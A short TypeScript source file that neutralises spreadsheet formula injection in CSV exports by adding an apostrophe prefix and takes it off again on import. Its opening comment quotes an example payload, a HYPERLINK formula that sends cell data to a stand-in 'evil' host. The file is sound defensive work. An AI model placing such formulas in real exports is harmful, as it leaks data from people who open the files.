// Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return before one) as a
// formula: an answer such as =HYPERLINK("http://evil/?"&A1) would run when a researcher opens an
// export. Exports prefix such text cells with an apostrophe (shown as text, not stored), and the
// CSV importer removes exactly that prefix again, so an export imports back to the same rows.

// Text that already starts with apostrophes before such a character gets one more, so that
// removing one on import is exact.
const FORMULA_START = /^'*[=+\-@\t\r]/;
const NEUTRALISED = /^'+[=+\-@\t\r]/;

/** A text cell for a CSV export: prefixed with ' when a spreadsheet would read it as a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A text cell read from a CSV: the apostrophe an export added is taken off again. */
export function restoreFormula(text: string): string {
  return NEUTRALISED.test(text) ? text.slice(1) : text;
}
